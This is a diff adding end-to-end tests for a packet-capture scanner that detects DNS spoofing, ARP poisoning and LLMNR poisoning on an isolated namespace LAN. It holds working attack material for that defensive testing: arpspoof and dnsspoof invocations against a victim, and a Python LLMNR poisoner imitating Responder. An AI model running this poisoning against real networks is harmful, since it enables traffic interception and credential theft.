@@ -1,0 +1,333 @@
+// End to end: DNS spoofing and LLMNR poisoning on a namespace LAN with real
+// tools (dnsmasq, dig, dsniff's arpspoof and dnsspoof), captured on the
+// bridge, then `sniffwatch scan` on the capture. Needs root; see README.md.
+
+import { test, after, type TestContext } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Finding } from '../../src/findings/finding.js';
+import { runCli } from '../helpers/cli.js';
+import { canRunNetns, createLan, scapyPython, sleep, ATTACKER, GATEWAY, VICTIM, type Background, type Capture, type Lan } from '../helpers/netns-lan.js';
+
+const KEEP = process.env.SNIFFWATCH_E2E_KEEP === '1';
+const workDir = mkdtempSync(join(tmpdir(), 'sniffwatch-e2e-dns-'));
+let keepWorkDir = KEEP;
+after(() => {
+  if (keepWorkDir) console.error(`# e2e captures kept in ${workDir}`);
+  else rmSync(workDir, { recursive: true, force: true });
+});
+
+const INTRANET = 'intranet.example';
+const INTRANET_ADDR = '198.18.0.50';
+const FILES = 'files.intranet.example';
+const FILES_ADDR = '198.18.0.51';
+const MEDIUM_OR_ABOVE = new Set(['medium', 'high', 'critical']);
+
+function scan(pcap: string): { status: number | null; stderr: string; findings: Finding[] } {
+  const r = runCli(['scan', '--format', 'jsonl', pcap]);
+  assert.equal(r.signal, null, `scanner killed by ${r.signal}`);
+  return r;
+}
+
+function summary(findings: readonly Finding[]): string {
+  return findings.map((f) => `${f.severity} ${f.rule_id} ${JSON.stringify(f.attack.techniques)}: ${f.message}`).join('\n');
+}
+
+function hasEntity(f: Finding, type: string, value: string, role?: string): boolean {
+  return f.entities.some((e) => e.type === type && e.value === value && (role === undefined || e.role === role));
+}
+
+/** Runs assertions that need the capture; on failure keeps it and says where it is. */
+async function withPcap(t: TestContext, pcap: string, fn: () => void | Promise<void>): Promise<void> {
+  try {
+    await fn();
+  } catch (e) {
+    keepWorkDir = true;
+    t.diagnostic(`capture: ${pcap}`);
+    console.error(`# ${t.name}: capture kept at ${pcap}`);
+    throw e;
+  }
+}
+
+async function skipUnless(t: TestContext, tools: string[], scapy = false): Promise<boolean> {
+  let why = await canRunNetns(tools);
+  if (!why && scapy && !scapyPython()) why = 'tool missing: python3 with scapy (Debian package python3-scapy)';
+  if (why) t.skip(why);
+  return why === undefined;
+}
+
+async function freshLan(t: TestContext): Promise<Lan> {
+  const lan = await createLan();
+  t.after(() => lan.destroy());
+  return lan;
+}
+
+/**
+ * Stops the bridge capture a second after the last exchange: late answers
+ * (dnsspoof answers tens of milliseconds after the query) belong in it, and
+ * libpcap without immediate mode hands frames over up to a second late.
+ */
+async function drainAndStop(cap: Capture): Promise<void> {
+  await sleep(1000);
+  await cap.stop();
+}
+
+/** dnsmasq on the gateway, answering only local names and nothing upstream. */
+async function startDnsmasq(lan: Lan): Promise<Background> {
+  const dnsmasq = lan.spawn(
+    'gateway',
+    [
+      'dnsmasq',
+      '--no-daemon',
+      '--conf-file=/dev/null',
+      '--no-resolv',
+      '--no-hosts',
+      '--bind-interfaces',
+      `--listen-address=${GATEWAY.ip}`,
+      '--except-interface=lo',
+      `--address=/${FILES}/${FILES_ADDR}`,
+      `--address=/${INTRANET}/${INTRANET_ADDR}`,
+      `--pid-file=${join(workDir, `dnsmasq-${lan.id}.pid`)}`,
+      '--user=root',
+      '--log-queries',
+    ],
+    'dnsmasq',
+  );
+  await dnsmasq.waitFor(/started, version/, 10_000);
+  return dnsmasq;
+}
+
+/**
+ * One `dig` from the victim: the A records it got, in order. Without EDNS:
+ * dnsspoof only answers queries that carry nothing but the question, like
+ * those of glibc's stub resolver.
+ */
+async function dig(lan: Lan, name: string): Promise<string[]> {
+  const argv = ['dig', `@${GATEWAY.ip}`, name, 'A', '+noedns', '+short', '+tries=1', '+time=2'];
+  const r = await lan.exec('victim', argv, { timeoutMs: 10_000, okCodes: [0, 9] });
+  return r.stdout.split('\n').map((l) => l.trim()).filter((l) => /^\d+\.\d+\.\d+\.\d+$/.test(l));
+}
+
+/** DNS answers in the capture, read with tcpdump so the check does not depend on our own decoder. */
+function dnsAnswersOnWire(pcap: string): string[] {
+  const text = execFileSync('tcpdump', ['-n', '-r', pcap, 'udp port 53'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
+  return text.split('\n').filter((l) => / A \d+\.\d+\.\d+\.\d+/.test(l));
+}
+
+test('benign: dnsmasq answering dig on the LAN yields no medium+ finding', { timeout: 90_000 }, async (t) => {
+  if (!(await skipUnless(t, ['dnsmasq', 'dig']))) return;
+  const lan = await freshLan(t);
+  const dnsmasq = await startDnsmasq(lan);
+  const pcap = join(workDir, 'dns-benign.pcap');
+  const cap = await lan.startCapture(pcap);
+  const got: string[][] = [];
+  for (let i = 0; i < 4; i++) {
+    got.push(await dig(lan, INTRANET), await dig(lan, FILES));
+    await sleep(300);
+  }
+  await lan.exec('attacker', ['ping', '-n', '-c', '2', '-i', '0.5', GATEWAY.ip], { timeoutMs: 10_000 });
+  await drainAndStop(cap);
+  await dnsmasq.stop('SIGTERM', 5000);
+
+  await t.test('dig got the real answers', () => {
+    assert.ok(got.every((a) => a.length === 1 && (a[0] === INTRANET_ADDR || a[0] === FILES_ADDR)), JSON.stringify(got));
+  });
+  await t.test('scan reports nothing medium or above, exit 0', (st) =>
+    withPcap(st, pcap, () => {
+      assert.ok(dnsAnswersOnWire(pcap).length >= 8, 'expected the DNS answers in the capture');
+      const r = scan(pcap);
+      const loud = r.findings.filter((f) => MEDIUM_OR_ABOVE.has(f.severity));
+      assert.deepEqual(loud.map((f) => `${f.rule_id} ${f.severity}`), [], `benign capture raised:\n${summary(loud)}`);
+      assert.equal(r.status, 0, `exit status 0 expected; got ${r.status}\nstderr: ${r.stderr}`);
+    }),
+  );
+});
+
+test('arpspoof + dnsspoof: the spoofed intranet name is reported with the attacker address', { timeout: 120_000 }, async (t) => {
+  if (!(await skipUnless(t, ['dnsmasq', 'dig', 'arpspoof', 'dnsspoof']))) return;
+  const lan = await freshLan(t);
+  const dnsmasq = await startDnsmasq(lan);
+  const hosts = join(workDir, 'dnsspoof.hosts');
+  writeFileSync(hosts, `${ATTACKER.ip}\t${INTRANET}\n${ATTACKER.ip}\t*.${INTRANET}\n`);
+  const pcap = join(workDir, 'dnsspoof.pcap');
+  const cap = await lan.startCapture(pcap);
+  // Normal life first: the attacker's own address is on the wire and the victim resolves through dnsmasq.
+  await lan.exec('attacker', ['ping', '-n', '-c', '2', '-i', '0.3', GATEWAY.ip], { timeoutMs: 10_000 });
+  const before = [await dig(lan, INTRANET), await dig(lan, FILES)];
+
+  // On-path: poison the victim's binding of the gateway (its resolver) and answer its DNS queries.
+  const arpspoof = lan.spawn('attacker', ['arpspoof', '-i', 'eth0', '-t', VICTIM.ip, GATEWAY.ip], 'arpspoof');
+  await arpspoof.waitFor(/is-at/, 10_000);
+  const dnsspoof = lan.spawn('attacker', ['dnsspoof', '-i', 'eth0', '-f', hosts], 'dnsspoof');
+  await dnsspoof.waitFor(/listening on/, 10_000);
+  await sleep(2500);
+  // First the attacker forwards what it intercepts: the query reaches dnsmasq too, and two answers race
+  // (dnsmasq on the same LAN usually wins, so dig keeps the real one). Then it stops forwarding, as a
+  // spoofer does to make sure its answer is the only one, and dig gets the forged address.
+  await lan.sysctl('attacker', 'net.ipv4.ip_forward', '1');
+  const forwarding: string[][] = [];
+  for (let i = 0; i < 4; i++) {
+    forwarding.push(await dig(lan, i % 2 === 0 ? INTRANET : FILES));
+    await sleep(400);
+  }
+  await lan.sysctl('attacker', 'net.ipv4.ip_forward', '0');
+  // The victim's cache flips back to the real gateway whenever the gateway ARPs for it, and Linux
+  // ignores a changed reply within a second of that (locktime); arpspoof re-poisons every 2 s, so
+  // querying for several seconds is sure to hit the poisoned window.
+  const spoofOnly: string[][] = [];
+  for (let i = 0; i < 8; i++) {
+    spoofOnly.push(await dig(lan, i % 2 === 0 ? INTRANET : FILES));
+    await sleep(600);
+  }
+  await dnsspoof.stop('SIGINT', 5000);
+  const exit = await arpspoof.stop('SIGINT', 15_000);
+  await drainAndStop(cap);
+  await dnsmasq.stop('SIGTERM', 5000);
+  t.diagnostic(`dig before: ${JSON.stringify(before)} forwarding: ${JSON.stringify(forwarding)} spoof only: ${JSON.stringify(spoofOnly)}`);
+  t.diagnostic(`arpspoof exit ${exit.code ?? exit.signal}; dnsspoof: ${dnsspoof.output().trim().split('\n').slice(-2).join(' | ')}`);
+
+  await t.test('the victim got spoofed answers', () => {
+    assert.deepEqual(before, [[INTRANET_ADDR], [FILES_ADDR]]);
+    assert.ok(spoofOnly.some((a) => a[0] === ATTACKER.ip), `no spoofed answer reached dig: ${JSON.stringify(spoofOnly)}`);
+  });
+  await t.test('scan reports DNS spoofing (T1557) naming the attacker address and the spoofed name, and the ARP poisoning', (st) =>
+    withPcap(st, pcap, () => {
+      const r = scan(pcap);
+      const all = summary(r.findings);
+      assert.equal(r.status, 1, `exit status 1 expected with high findings; got ${r.status}\n${r.stderr}\n${all}`);
+      const dns = r.findings.filter(
+        (f) =>
+          f.rule_id.startsWith('dns-') &&
+          MEDIUM_OR_ABOVE.has(f.severity) &&
+          f.attack.techniques.includes('T1557') &&
+          f.entities.some((e) => e.type === 'ip' && e.value === ATTACKER.ip) &&
+          f.entities.some((e) => e.type === 'host' && (e.value === INTRANET || e.value === FILES)),
+      );
+      assert.ok(dns.length > 0, `no dns-* finding naming ${ATTACKER.ip} and the spoofed name:\n${all}`);
+      const race = r.findings.find((f) => f.rule_id === 'dns-spoofed-response-race');
+      assert.ok(race && race.severity === 'high', `no dns-spoofed-response-race:\n${all}`);
+      assert.ok(hasEntity(race, 'mac', ATTACKER.mac, 'attacker'), `race blames the wrong station:\n${race.message}`);
+      assert.ok(hasEntity(race, 'ip', ATTACKER.ip, 'spoofed-answer'));
+      assert.ok(hasEntity(race, 'ip', VICTIM.ip, 'victim'));
+      const contested = r.findings.find((f) => f.rule_id === 'dns-answer-points-to-contested-host');
+      assert.ok(contested && hasEntity(contested, 'ip', ATTACKER.ip, 'attacker'), `no dns-answer-points-to-contested-host:\n${all}`);
+      const arp = r.findings.find((f) => f.attack.techniques.includes('T1557.002') && MEDIUM_OR_ABOVE.has(f.severity) && hasEntity(f, 'mac', ATTACKER.mac, 'attacker'));
+      assert.ok(arp, `the ARP poisoning is no longer reported:\n${all}`);
+    }),
+  );
+});
+
+// A stand-in for Responder (not packaged in Debian): it answers every LLMNR
+// query for an A record with its own address, in the layout of Responder's
+// LLMNR_Ans (flags 0x8000, the name written out again uncompressed, TTL 30 s).
+// With a name argument it answers only that name, as an ordinary host does.
+const POISONER = `
+import socket, struct, sys
+from scapy.layers.dns import DNS
+own = sys.argv[1]
+only = sys.argv[2].lower().encode() if len(sys.argv) > 2 else None
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(('', 5355))
+s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton('224.0.0.252') + socket.inet_aton(own))
+print('ready', flush=True)
+while True:
+    data, client = s.recvfrom(2048)
+    try:
+        q = DNS(data)
+    except Exception:
+        continue
+    if q.qr != 0 or q.qdcount != 1 or q.qd.qtype != 1:
+        continue
+    name = q.qd.qname.rstrip(b'.')
+    if only is not None and name.lower() != only:
+        continue
+    label = bytes([len(name)]) + name + b'\\x00'
+    answer = (data[0:2] + b'\\x80\\x00' + struct.pack('>HHHH', 1, 1, 0, 0) + label + struct.pack('>HH', 1, 1)
+              + label + struct.pack('>HHIH', 1, 1, 30, 4) + socket.inet_aton(own))
+    s.sendto(answer, client)
+    print('answered', client[0], name.decode('latin-1'), flush=True)
+`;
+
+// The victim's resolver falling back to LLMNR: one multicast query per name, first answer kept.
+const LLMNR_CLIENT = `
+import random, socket, sys
+from scapy.layers.dns import DNS, DNSQR
+own = sys.argv[1]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
+s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
+s.settimeout(1.0)
+for name in sys.argv[2:]:
+    q = DNS(id=random.randint(0, 65535), qr=0, rd=0, qd=DNSQR(qname=name, qtype='A'))
+    s.sendto(bytes(q), ('224.0.0.252', 5355))
+    try:
+        data, src = s.recvfrom(2048)
+        r = DNS(data)
+        print('answer', name, src[0], r.an.rdata if r.ancount else '-', flush=True)
+    except socket.timeout:
+        print('timeout', name, flush=True)
+`;
+
+async function runLlmnr(t: TestContext, name: string, onlyName: string | undefined, queries: string[]): Promise<{ pcap: string; answers: string }> {
+  const python = scapyPython()!;
+  const lan = await freshLan(t);
+  const poisonerPy = join(workDir, 'llmnr-poisoner.py');
+  const clientPy = join(workDir, 'llmnr-client.py');
+  writeFileSync(poisonerPy, POISONER);
+  writeFileSync(clientPy, LLMNR_CLIENT);
+  const pcap = join(workDir, `${name}.pcap`);
+  const cap = await lan.startCapture(pcap);
+  const responder = lan.spawn('attacker', [python, poisonerPy, ATTACKER.ip, ...(onlyName ? [onlyName] : [])], 'llmnr responder');
+  await responder.waitFor(/ready/, 30_000);
+  const r = await lan.exec('victim', [python, clientPy, VICTIM.ip, ...queries], { timeoutMs: 60_000 });
+  await sleep(300);
+  await responder.stop('SIGTERM', 5000);
+  await drainAndStop(cap);
+  t.diagnostic(`client: ${r.stdout.trim().replace(/\n/g, ' | ')}`);
+  return { pcap, answers: r.stdout };
+}
+
+test('LLMNR poisoning by a Responder stand-in is reported naming the poisoner', { timeout: 90_000 }, async (t) => {
+  if (!(await skipUnless(t, [], true))) return;
+  const names = ['fileserv', 'wpad', 'backupsrv', 'printr'];
+  const { pcap, answers } = await runLlmnr(t, 'llmnr-poison', undefined, names);
+  await t.test('the stand-in answered every name with its own address', () => {
+    for (const n of names) assert.match(answers, new RegExp(`answer ${n} ${ATTACKER.ip.replace(/\./g, '\\.')} ${ATTACKER.ip.replace(/\./g, '\\.')}`));
+  });
+  await t.test('scan reports llmnr-nbtns-poisoning (T1557.001) with the poisoner as attacker', (st) =>
+    withPcap(st, pcap, () => {
+      const r = scan(pcap);
+      const all = summary(r.findings);
+      const f = r.findings.find((x) => x.rule_id === 'llmnr-nbtns-poisoning');
+      assert.ok(f, `no llmnr-nbtns-poisoning finding:\n${all}`);
+      assert.equal(f.severity, 'high');
+      assert.deepEqual(f.attack.techniques, ['T1557.001']);
+      assert.ok(hasEntity(f, 'ip', ATTACKER.ip, 'attacker'), all);
+      assert.ok(hasEntity(f, 'mac', ATTACKER.mac, 'attacker'), all);
+      assert.ok(hasEntity(f, 'ip', VICTIM.ip, 'victim'), all);
+      assert.ok(hasEntity(f, 'host', 'wpad', 'poisoned-name'), all);
+      assert.match(f.message, /Responder's LLMNR_Ans/);
+      assert.equal(r.status, 1, `exit status 1 expected; got ${r.status}\n${r.stderr}`);
+    }),
+  );
+});
+
+test('benign LLMNR: a host answering only its own name yields no medium+ finding', { timeout: 90_000 }, async (t) => {
+  if (!(await skipUnless(t, [], true))) return;
+  const { pcap, answers } = await runLlmnr(t, 'llmnr-benign', 'attacker', ['attacker', 'nosuchhost', 'attacker', 'otherhost', 'attacker']);
+  await t.test('the host answered its own name and nothing else', () => {
+    assert.match(answers, /answer attacker /);
+    assert.match(answers, /timeout nosuchhost/);
+  });
+  await t.test('scan reports nothing medium or above', (st) =>
+    withPcap(st, pcap, () => {
+      const r = scan(pcap);
+      const loud = r.findings.filter((f) => MEDIUM_OR_ABOVE.has(f.severity));
+      assert.deepEqual(loud.map((f) => `${f.rule_id} ${f.severity}`), [], `benign capture raised:\n${summary(loud)}`);
+    }),
+  );
+});
